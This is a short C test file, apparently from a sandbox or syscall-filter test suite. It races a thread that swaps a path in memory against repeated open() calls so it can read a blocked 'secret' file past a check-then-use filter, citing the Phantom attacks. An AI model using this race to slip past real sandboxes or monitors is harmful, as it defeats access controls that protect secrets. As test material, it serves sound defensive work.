/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The path changed in memory by another thread, between the moment it is looked at and the moment it is used.
 *
 * Who reads the argument of a call at its entry reads it before the kernel does (the Phantom attacks v1 and v2,
 * GHSA-6v9j-2vm2-ghf7).
 *
 * ---
 * tries: [B9]
 * rule: secret
 * wins: secret
 */
#include "attack.h"
#include <pthread.h>

static char path[4096], blocked[4096], harmless[4096];

static void *switching(void *unused)
{
	for (;;) {
		memcpy(path, harmless, strlen(harmless));
		memcpy(path, blocked, strlen(blocked));
	}
	return unused;
}

int main(void)
{
	pthread_t thread;

	strcpy(blocked, V("secret"));
	strcpy(harmless, blocked);
	memcpy(harmless + strlen(harmless) - 6, "xxxxxx", 6);
	strcpy(path, blocked);
	must(pthread_create(&thread, NULL, switching, NULL), "thread");
	for (int i = 0; i < 5000; i++) {
		int fd = open(path, O_RDONLY);

		if (fd >= 0)
			return show(fd);
	}
	return 1;
}
